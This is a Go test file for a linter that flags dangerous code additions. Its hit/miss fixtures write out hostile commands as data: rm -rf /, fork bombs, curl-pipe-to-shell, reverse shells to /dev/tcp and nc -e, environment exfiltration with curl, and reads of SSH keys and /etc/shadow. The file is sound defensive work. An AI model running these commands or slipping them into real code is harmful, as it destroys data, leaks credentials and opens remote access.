package danger

import (
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"
	"github.com/google/go-cmp/cmp"

	"github.com/git-ftl/git-ftl/lint/internal/doc"
	"github.com/git-ftl/git-ftl/lint/internal/linear"
	"github.com/git-ftl/git-ftl/snapshot/git"
)

func added(path, text string) *doc.Document {
	return doc.New(path, git.Entry{}, git.Entry{Mode: filemode.Regular}, []byte(text), nil)
}

// severities are what a document gives, by rule.
func severities(d *doc.Document, task string) map[string]doc.Severity {
	got := map[string]doc.Severity{}
	for _, h := range Hits(d, task) {
		got[strings.TrimPrefix(h.Rule, "danger/")] = h.Severity
	}
	return got
}

// example is a text that a rule is to hit, or to leave alone.
type example struct {
	rule, path, text string
	miss             bool
}

func hit(rule, path string, texts ...string) (out []example) {
	for _, text := range texts {
		out = append(out, example{rule, path, text, false})
	}
	return out
}

func miss(rule, path string, texts ...string) (out []example) {
	for _, text := range texts {
		out = append(out, example{rule, path, text, true})
	}
	return out
}

func TestRules(t *testing.T) {
	seen := map[example]bool{}
	for _, group := range [][]example{sqlExamples(), shellExamples(), remoteExamples(), switchExamples(), evalExamples(), commandExamples()} {
		for _, e := range group {
			seen[example{rule: e.rule, miss: e.miss}] = true
			t.Run(e.rule+"/"+e.path+"/"+e.text, func(t *testing.T) {
				_, got := severities(added(e.path, e.text), "")[e.rule]
				if got == e.miss {
					t.Errorf("hit: %v, all: %v", got, severities(added(e.path, e.text), ""))
				}
			})
		}
	}
	for _, r := range rules().rules {
		if !seen[example{rule: r.name}] || !seen[example{rule: r.name, miss: true}] {
			t.Errorf("%s lacks an example that it hits or one that it leaves alone", r.name)
		}
	}
}

func concat(groups ...[]example) (out []example) {
	for _, g := range groups {
		out = append(out, g...)
	}
	return out
}

func sqlExamples() []example {
	return concat(
		hit("sql-drop", "a.sql", "DROP TABLE users;\n", "drop schema if exists app cascade;", "BEGIN;\n  DROP DATABASE x;"),
		hit("sql-drop", "a.go", "db.Exec(`\n\tDROP TABLE users\n`)", `db.Exec("DROP TABLE " + name + ";")`+"\ndb.Exec(\"drop table x;\")"),
		hit("sql-drop", "a.sh", `psql -c "DROP TABLE users"`),
		miss("sql-drop", "a.sql", "-- DROP TABLE users;\n", "/* DROP TABLE users; */", "ALTER TABLE x DROP COLUMN y;"),
		miss("sql-drop", "a.go", "// DROP TABLE users;\n", `log.Print("cannot drop table users: busy")`, `log.Print("Drop table failed")`),
		miss("sql-drop", "README.md", "DROP TABLE users;\n"),
		hit("sql-truncate", "a.sql", "TRUNCATE TABLE users;", "truncate  table only users", "TRUNCATE users;", "truncate a, b;"),
		hit("sql-truncate", "a.go", `db.Exec("TRUNCATE users")`),
		miss("sql-truncate", "a.sql", "SELECT truncate(1.5, 0);"),
		miss("sql-truncate", "a.js", `c = "truncate;"`, `c = "truncate text-sm"`),
		hit("sql-delete-all", "a.sql", "DELETE u FROM users u;", "DELETE FROM users WHERE 1=1;", "DELETE FROM users WHERE true"),
		miss("sql-delete-all", "a.sql", "DELETE u FROM users u WHERE u.id = 1;", "DELETE FROM users WHERE 1=1 AND id = 2;"),
		miss("sql-truncate", "a.css", "text-overflow: truncate;"),
		miss("sql-truncate", "a.tsx", `<p className="truncate table">`),
		hit("sql-delete-all", "a.sql", "DELETE FROM users;", "DELETE\nFROM users\n;\nSELECT 1 WHERE true;", "delete from users"),
		hit("sql-delete-all", "a.py", `cur.execute("DELETE FROM users")`+"\ncur.execute(\"SELECT 1 WHERE 1\")"),
		miss("sql-delete-all", "a.sql", "DELETE FROM users\nWHERE id = 1;", "DELETE FROM users USING old WHERE x;"),
		miss("sql-delete-all", "a.py", `cur.execute("DELETE FROM users " + where)`, `cur.execute("DELETE FROM users"`+"\n    \" WHERE id = %s\", x)", `raise E("cannot delete from list")`),
		hit("sql-update-all", "a.sql", "UPDATE users SET name = 'x';"),
		miss("sql-update-all", "a.sql", "UPDATE users SET name = 'x'\n, b = 2 WHERE id = 3;", "ON UPDATE SET NULL", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1;"),
		hit("sql-grant-all", "a.sql", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%';"),
		miss("sql-grant-all", "a.sql", "GRANT SELECT ON t TO x;"),
	)
}

func shellExamples() []example {
	return concat(
		hit("rm-root", "a.sh", "rm -rf /", "rm -r -f ~", "rm --recursive --force \"$DIR\"", "sudo rm -fr /*", "rm -Rf -- *", "rm -rf a b /usr", "rm -rf ${DIR}/x", "rm -vrf \"$HOME/\"", "cd x && rm -rf ./*", "rm -rf --no-preserve-root x /"),
		hit("rm-root", "Dockerfile", "RUN apt-get update && rm -rf /var\n"),
		hit("rm-root", "package.json", `{"scripts":{"clean":"rm -rf /"}}`),
		hit("rm-root", "a.py", `os.system("rm -rf /")`),
		miss("rm-root", "a.sh", "rm -rf build", "rm -f /etc/x", "rm -r $DIR", "rm -rf ./build/*.o", "# rm -rf /", "docker run --rm -rf /", "rm -rf /var/lib/apt/lists/*", "rm -rf \"${DIR:?}\"", "rm -rf node_modules dist"),
		miss("rm-root", "a.md", "rm -rf /"),
		hit("raw-disk", "a.sh", "dd if=x.img of=/dev/sda bs=4M", "mkfs.ext4 /dev/sdb1", "echo x > /dev/sda", "wipefs -a $D"),
		miss("raw-disk", "a.sh", "dd if=/dev/zero of=disk.img", "echo x > /dev/null", "command -v mkfs.ext4"),
		hit("world-writable", "a.py", "os.chmod(p, 0o777)"),
		hit("world-writable", "a.go", "os.Chmod(p, 0777)"),
		hit("world-writable", "a.js", "fs.chmodSync(join(a, b), 0o666)"),
		miss("world-writable", "a.py", "os.chmod(p, 0o755)", "os.chmod(p, mode)"),
		hit("rm-root", "a.sh", "find / -name x -delete", "find $DIR -exec rm {} +"),
		miss("rm-root", "a.sh", "find . -name '*.o' -delete", "find / -name x"),
		hit("rm-root", "a.ps1", `Remove-Item -Recurse -Force C:\`),
		hit("rm-root", "a.bat", `del /s /q C:\*`, `rd /s /q "D:\"`, "format C: /y"),
		miss("rm-root", "a.bat", `del /s /q C:\build\out`, "format %A"),
		miss("rm-root", "a.ps1", "Remove-Item -Recurse -Force ./out"),
		hit("delete-all", "a.py", "User.objects.all().delete()", "db.drop_all()"),
		hit("delete-all", "a.rb", "User.delete_all"),
		hit("delete-all", "a.js", "await User.deleteMany({})", "db.dropDatabase()", "knex.schema.dropTable('x')", "sequelize.sync({ force: true })"),
		miss("delete-all", "a.py", "User.objects.filter(id=1).delete()"),
		miss("delete-all", "a.js", "User.deleteMany({ id: 1 })", "sequelize.sync({ force: false })"),
		hit("world-writable", "a.sh", "chmod 777 x", "chmod -R 0777 /srv", "chmod a+rwx x", "chmod o+w x"),
		miss("world-writable", "a.sh", "chmod 755 x", "chmod +x x", "chmod u+w x", "chmod -R +w ."),
		hit("git-force", "a.sh", "git push --force origin main", "git push -f", "git -C x push origin +main", "git reset --hard HEAD~3", "git filter-branch --all", "git clean -fdx", "git reflog expire --all"),
		hit("git-force", "a.yml", "      - run: git push --force\n"),
		miss("git-force", "a.sh", "git push --force-with-lease", "git push origin main", "git reset HEAD x", "git fetch --force"),
		hit("skips-hooks", "a.sh", "git commit --no-verify -m x", "HUSKY=0 git commit"),
		miss("skips-hooks", "a.sh", "git commit -m x", "curl --no-verify"),
		hit("fork-bomb", "a.sh", ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"),
		miss("fork-bomb", "a.sh", "f() { g | h & }; f"),
		hit("cluster-delete", "a.sh", "kubectl delete pods --all", "kubectl delete ns prod", "terraform destroy -auto-approve", "aws s3 rb s3://b --force", "redis-cli FLUSHALL", "docker system prune -af", "gcloud projects delete x", "az group delete -n x --yes", "gsutil -m rm -r gs://b", "helm uninstall x", "sudo dropdb prod"),
		miss("cluster-delete", "a.sh", "kubectl delete pod x", "terraform plan", "aws s3 cp a b", "kubectl get pods --all", "gsutil rm gs://b/x", "complete -c dropdb -s w"),
		hit("privileged-container", "a.sh", "docker run --privileged x", "docker run -v /:/host x", "docker run -v /var/run/docker.sock:/var/run/docker.sock x"),
		hit("privileged-container", "compose.yml", "    privileged: true\n", "    - /var/run/docker.sock:/var/run/docker.sock\n"),
		miss("privileged-container", "a.sh", "docker run -v /data:/data x", "test -S /var/run/docker.sock"),
		miss("privileged-container", "compose.yml", "    privileged: false\n"),
		hit("persistence", "a.sh", "crontab -", "echo x >> ~/.bashrc", "systemctl enable x", "cat k >> ~/.ssh/authorized_keys", "cp x /etc/cron.d/x"),
		miss("persistence", "a.sh", "crontab -l", "cat ~/.bashrc", "systemctl status x"),
		hit("sudoers", "a.sh", "echo 'x ALL=(ALL) NOPASSWD: ALL' > y", "cat x >> /etc/sudoers"),
		miss("sudoers", "a.sh", "sudo ls"),
		hit("hides-tracks", "a.sh", "unset HISTFILE", "history -c"),
		miss("hides-tracks", "a.sh", "history | tail"),
	)
}

func remoteExamples() []example {
	return concat(
		hit("pipe-to-shell", "a.sh", "curl -fsSL https://x.test/i.sh | sh", "wget -O- https://x.test | sudo bash", "eval \"$(curl x.test)\"", "bash <(curl -s x.test)", "curl x.test |\\\n  bash", "curl x.test | python3 -", `sh -c "$(curl -fsSL x.test)"`),
		hit("pipe-to-shell", "Dockerfile", "RUN curl x.test | bash -s -- -y\n"),
		hit("pipe-to-shell", "a.ps1", "iwr x.test | iex", "iex ((New-Object Net.WebClient).DownloadString('http://x.test'))"),
		hit("pipe-to-shell", "a.js", `exec("curl x.test | sh")`),
		miss("pipe-to-shell", "a.sh", "curl x.test | jq .", "curl x.test -o i.sh", "curl x.test | tar xz", "curl x.test; bash y.sh", "curl x.test | sha256sum"),
		hit("encoded-to-shell", "a.sh", "echo aGk= | base64 -d | sh", "eval \"$(echo aGk= | base64 --decode)\"", "base64 -D x | bash"),
		miss("encoded-to-shell", "a.sh", "echo aGk= | base64 -d > x", "base64 x | sh-count"),
		hit("reverse-shell", "a.sh", "bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "nc -e /bin/sh 192.0.2.1 99", "mkfifo /tmp/f; nc x 99 < /tmp/f", "nc 192.0.2.1 99 -e /bin/sh"),
		hit("reverse-shell", "a.py", "pty.spawn('/bin/sh')", "os.dup2(s.fileno(), 0)"),
		miss("reverse-shell", "a.sh", "nc -z localhost 80", "sync -e", "echo > /dev/tcp/localhost/80"),
		miss("reverse-shell", "a.py", "# pty.spawn('/bin/sh')\n", "os.dup2(a, b)", "os.dup2(log.fileno(), saved)", "pty.spawn(argv, read)"),
		hit("drop-host", "a.js", `fetch("https://webhook.site/x")`, `fetch("https://api.telegram.org/bot1/x")`),
		miss("drop-host", "a.js", `fetch("https://example.com/webhook")`),
		hit("credential-file", "a.py", `open(os.path.expanduser("~/.ssh/id_rsa"))`, `open("/etc/shadow")`, `open("~/.aws/credentials")`),
		hit("credential-file", "a.sh", "cat ~/.netrc", "tar c $HOME/.gnupg"),
		miss("credential-file", "a.sh", "cat .npmrc", "ls ~/.config"),
		miss("credential-file", "a.py", `x = "ssh"`),
		hit("metadata-service", "a.go", `http.Get("http://169.254.169.254/latest")`),
		hit("metadata-service", "a.sh", "curl http://metadata.google.internal/"),
		miss("metadata-service", "a.go", `x := "169.254.1.1"`, "// 169.254.169.254\n"),
		hit("sends-environment", "a.sh", "env | curl -d @- x.test", `curl -d "$(printenv)" x.test`),
		hit("sends-environment", "a.js", "post(JSON.stringify(process.env))"),
		hit("sends-environment", "a.py", "post(json.dumps(dict(os.environ)))"),
		miss("sends-environment", "a.sh", "env | grep X", "curl -d @x y.test"),
		miss("sends-environment", "a.js", "JSON.stringify(process.env.X)"),
	)
}

func switchExamples() []example {
	return concat(
		hit("firewall-off", "a.sh", "iptables -F", "ufw disable", "setenforce 0", "systemctl stop firewalld"),
		miss("firewall-off", "a.sh", "iptables -L", "ufw allow 22", "systemctl stop x"),
		hit("ssh-open", "a.sh", "ssh -o StrictHostKeyChecking=no x", "echo PermitRootLogin yes"),
		miss("ssh-open", "a.sh", "ssh -o StrictHostKeyChecking=yes x"),
		hit("tls-off-shell", "a.sh", "curl -k https://x.test", "curl -sSLk x.test", "curl --insecure x.test", "git config http.sslVerify false", "export NODE_TLS_REJECT_UNAUTHORIZED=0", "wget --no-check-certificate x"),
		miss("tls-off-shell", "a.sh", "curl -L https://x.test/a-k", "wget x", "curl --keepalive-time 2 x"),
		hit("tls-off", "a.go", "&tls.Config{InsecureSkipVerify: true}"),
		hit("tls-off", "a.py", "requests.get(u, verify=False)", "ctx.verify_mode = ssl.CERT_NONE", "ssl._create_unverified_context()"),
		hit("tls-off", "a.ts", "new Agent({ rejectUnauthorized: false })", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0"),
		hit("tls-off", "a.rs", ".danger_accept_invalid_certs(true)"),
		hit("tls-off", "A.java", "public void checkServerTrusted(X[] c, String a) throws E { }", "NoopHostnameVerifier.INSTANCE"),
		hit("tls-off", "a.cs", "h.ServerCertificateCustomValidationCallback = (a, b, c, d) => true;"),
		hit("tls-off", "a.php", "curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);"),
		miss("tls-off", "a.py", "if ctx.verify_mode != ssl.CERT_NONE:", "def _create_unverified_context():"),
		miss("tls-off", "a.html", "<p>verify=False and rejectUnauthorized: false</p>"),
		hit("tls-off", "a.html", "<p>x</p>\n<script type=module>f({ rejectUnauthorized: false })</script>"),
		miss("tls-off", "a.go", "&tls.Config{InsecureSkipVerify: false}", "// InsecureSkipVerify: true\n", `t.Error("InsecureSkipVerify: true")`),
		miss("tls-off", "a.py", "requests.get(u, verify=True)", "verify = Falsey"),
		hit("host-key-off", "a.go", "ssh.InsecureIgnoreHostKey()"),
		hit("host-key-off", "a.py", "c.set_missing_host_key_policy(AutoAddPolicy())"),
		miss("host-key-off", "a.go", "ssh.FixedHostKey(k)"),
		hit("auth-off", "a.py", "@csrf_exempt\ndef f(): pass", `jwt.decode(t, options={"verify_signature": False})`, `jwt.decode(t, algorithms=["none"])`),
		hit("auth-off", "A.java", "http.csrf().disable()", "http.csrf(AbstractHttpConfigurer::disable)"),
		miss("auth-off", "a.py", `jwt.decode(t, algorithms=["HS256"])`, "x = 'none'"),
		hit("weak-crypto", "A.java", `Cipher.getInstance("AES/ECB/PKCS5Padding")`),
		hit("weak-crypto", "a.py", "hashlib.md5(password.encode())", "AES.new(k, AES.MODE_ECB)"),
		miss("weak-crypto", "A.java", `Cipher.getInstance("AES/GCM/NoPadding")`),
		miss("weak-crypto", "a.py", "hashlib.md5(data)"),
		hit("html-unescaped", "a.tsx", "<div dangerouslySetInnerHTML={x} />"),
		hit("html-unescaped", "a.go", "template.HTML(x)"),
		miss("html-unescaped", "a.go", "template.HTML(`<b>x</b>`)"),
	)
}

func evalExamples() []example {
	return concat(
		hit("obfuscated", "a.js", `eval(atob("YQ=="))`, "var _0x3f2a = 1", "Function(atob(x))"),
		hit("obfuscated", "a.py", "exec(base64.b64decode(x))", `__import__("os").system("x")`, "exec(zlib.decompress(x))"),
		hit("obfuscated", "a.php", "eval(gzinflate(base64_decode($x)));"),
		miss("obfuscated", "a.js", "atob(x)", "var x = 0x3f2a"),
		miss("obfuscated", "a.py", "base64.b64decode(x)", "import os"),
		hit("eval-python", "a.py", "eval(x)", "y = exec(code, {})"),
		miss("eval-python", "a.py", "ast.literal_eval(x)", "model.eval()", "# eval(x)\n", "r = \"eval(x)\"", `"""eval(x)"""`+"\n"),
		hit("eval-script", "a.ts", "eval(x)", "new Function(body)", "setTimeout('x()', 1)"),
		miss("eval-script", "a.ts", "retrieval(x)", "obj.eval(x)", "// eval(x)\n", "setTimeout(() => x(), 1)"),
		hit("eval-php", "a.php", "eval($code);"),
		miss("eval-php", "a.php", "evaluate($code);"),
		hit("eval-ruby", "a.rb", "eval(code)"),
		miss("eval-ruby", "a.rb", "obj.evaluate(code)"),
		hit("deserialize", "a.py", "pickle.loads(x)", "yaml.load(f)", "yaml.load(f, Loader=yaml.Loader)", "yaml.unsafe_load(f)"),
		hit("deserialize", "A.java", "new ObjectInputStream(in)"),
		hit("deserialize", "a.rb", "Marshal.load(x)"),
		miss("deserialize", "a.py", "yaml.load(f, Loader=yaml.SafeLoader)", "yaml.safe_load(f)", "json.loads(x)"),
	)
}

func commandExamples() []example {
	return concat(
		hit("command-python", "a.py", `os.system("ls " + x)`, "os.system(cmd)", "subprocess.run(cmd, shell=True)", "subprocess.run(f\"ls {x}\",\n    shell=True)", "subprocess.run(cmd, stdin=a,"+strings.Repeat(" ", 200)+"shell=True)"),
		miss("command-python", "a.py", `os.system("ls")`, `subprocess.run("ls", shell=True)`, "subprocess.run(cmd)", "# os.system(cmd)\n"),
		hit("command-script", "a.ts", "exec(`ls ${x}`)", "child_process.execSync('ls ' + x)", "spawn(c, a, { shell: true })"),
		miss("command-script", "a.ts", "execFile('ls', [x])", "re.exec(`a${x}`)", "exec('ls')"),
		hit("command-go", "a.go", `exec.Command("sh", "-c", x)`, `exec.CommandContext(ctx, "/bin/bash", "-c", "ls "+x)`, `exec.Command("cmd", "/c", x)`),
		miss("command-go", "a.go", `exec.Command("sh", "-c", "ls")`, `exec.Command("git", "-c", x)`),
		hit("command-java", "A.java", `Runtime.getRuntime().exec("ls " + x)`),
		miss("command-java", "A.java", `Runtime.getRuntime().exec("ls")`),
		hit("command-native", "a.c", "system(cmd);", `popen(cmd, "r");`),
		miss("command-native", "a.c", `system("clear");`, "filesystem(x);"),
		hit("command-rust", "a.rs", `Command::new("sh").arg("-c").arg(x)`),
		miss("command-rust", "a.rs", `Command::new("git").arg("-c").arg(x)`),
		hit("command-php", "a.php", "system($x);", `exec("ls " . $x);`),
		miss("command-php", "a.php", `$db->exec($x);`, `exec("ls");`),
		hit("command-ruby", "a.rb", `system("ls #{x}")`, "y = `ls #{x}`"),
		miss("command-ruby", "a.rb", `system("ls", x)`),
		hit("command-dotnet", "a.cs", `Process.Start("cmd", "/c " + x)`),
		miss("command-dotnet", "a.cs", `Process.Start("notepad")`),
		hit("sql-concat", "a.py", `cur.execute(f"SELECT * FROM t WHERE id = {x}")`, `cur.execute("SELECT * FROM t WHERE id = %s" % x)`),
		hit("sql-concat", "a.go", `db.Query(fmt.Sprintf("SELECT * FROM %s", t))`),
		hit("sql-concat", "A.java", `st.executeQuery("SELECT * FROM t WHERE id = " + id)`),
		miss("sql-concat", "a.py", `cur.execute("SELECT * FROM t WHERE id = %s", (x,))`),
		hit("remove-all", "a.go", `os.RemoveAll("/")`),
		hit("remove-all", "a.py", `shutil.rmtree(os.path.expanduser("~"))`, `shutil.rmtree("/")`),
		hit("remove-all", "a.ts", "fs.rmSync(os.homedir(), { recursive: true })", "rimraf('/')"),
		miss("remove-all", "a.go", "os.RemoveAll(dir)"),
		miss("remove-all", "a.ts", "fs.rmSync('dist', { recursive: true })"),
		hit("unbounded-copy", "a.c", "strcpy(a, b);", "gets(s);"),
		miss("unbounded-copy", "a.c", "fgets(s, 3, f);", "snprintf(s, 3, f);", "// strcpy(a, b)\n"),
		hit("unsafe-rust", "a.rs", "unsafe { *p }"),
		miss("unsafe-rust", "a.rs", "fn is_unsafe() {}", "// unsafe { }\n"),
		hit("temporary-name", "a.py", "tempfile.mktemp()"),
		miss("temporary-name", "a.py", "tempfile.mkstemp()"),
	)
}

func TestSeverity(t *testing.T) {
	tests := []struct {
		name, path, text, task string
		want                   map[string]doc.Severity
	}{
		{"advice", "a.sql", "DROP TABLE t;", "", map[string]doc.Severity{"sql-drop": doc.Warn}},
		{"asked for", "a.sql", "DROP TABLE t;", "Please drop the old tables.", map[string]doc.Severity{"sql-drop": doc.Info}},
		{"half asked for", "a.sql", "DROP TABLE t;", "drop the idea", map[string]doc.Severity{"sql-drop": doc.Warn}},
		{"of a test", "a_test.go", "os.RemoveAll(\"/\")", "", map[string]doc.Severity{"remove-all": doc.Info}},
		{"never asked for", "a.js", "eval(atob(x))", "use eval", map[string]doc.Severity{"obfuscated": doc.Warn, "eval-script": doc.Info}},
		{"script without extension", "run", "#!/bin/bash\nrm -rf /\n", "", map[string]doc.Severity{"rm-root": doc.Warn}},
		{"text without extension", "run", "rm -rf /\n", "", map[string]doc.Severity{}},
		{"documentation", "a.rst", "rm -rf /\n", "", map[string]doc.Severity{}},
		{"UTF-16", "a.sql", "\xff\xfeD\x00R\x00O\x00P\x00 \x00T\x00A\x00B\x00L\x00E\x00 \x00t\x00;\x00", "", map[string]doc.Severity{"sql-drop": doc.Warn}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, severities(added(tt.path, tt.text), tt.task)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestOldLinesAreLeft(t *testing.T) {
	old := git.Entry{Mode: filemode.Regular}
	old.Hash[0] = 1
	d := doc.New("a.sh", old, git.Entry{Mode: filemode.Regular}, []byte("rm -rf /\nrm -rf ~\n"), []byte("rm -rf /\n"))
	hits := Hits(d, "")
	if len(hits) != 1 || d.Line(hits[0].Start) != 2 {
		t.Errorf("%+v, want the second line only", hits)
	}
}

// TestHostileInput takes sources made of what is costly.
func TestHostileInput(t *testing.T) {
	parts := map[string]string{
		"escaped quotes":    `"\`,
		"open comments":     "/*",
		"triple quotes":     `"""` + "\n",
		"apostrophes":       "'",
		"one keyword":       "eval",
		"many keywords":     "rm -curl delete from x exec( eval subprocess.run(f'' ",
		"removals":          "rm -r ",
		"statements":        "DELETE FROM t ",
		"statements, ended": "DELETE FROM t;\n",
		"pipes":             "curl |",
		"shell arguments":   "subprocess.run(x",
		"templates":         ".query(`SELECT ",
		"spaces":            " ",
	}
	for name, part := range parts {
		for _, path := range []string{"a.py", "a.sh", "a.js", "a.sql"} {
			t.Run(name+"/"+path, func(t *testing.T) {
				linear.Check(t, func(size int) func() {
					d := added(path, strings.Repeat(part, size/len(part)))
					return func() { Hits(d, "") }
				})
			})
		}
	}
}

func TestTooLarge(t *testing.T) {
	d := added("a.py", strings.Repeat("x\n", maxSource))
	if diff := cmp.Diff(map[string]doc.Severity{"unread": doc.Warn}, severities(d, "")); diff != "" {
		t.Error(diff)
	}
}

func FuzzHits(f *testing.F) {
	for _, group := range [][]example{sqlExamples(), shellExamples(), remoteExamples(), switchExamples(), evalExamples(), commandExamples()} {
		for _, e := range group {
			f.Add(e.path, e.text, "drop table")
		}
	}
	f.Fuzz(func(t *testing.T, path, text, task string) {
		d := added(path, text)
		for _, h := range Hits(d, task) {
			if h.Start < 0 || h.End < h.Start || h.End > len(d.Text) || h.Message == "" || h.Severity == doc.Block {
				t.Errorf("%+v of %d bytes", h, len(d.Text))
			}
		}
	})
}
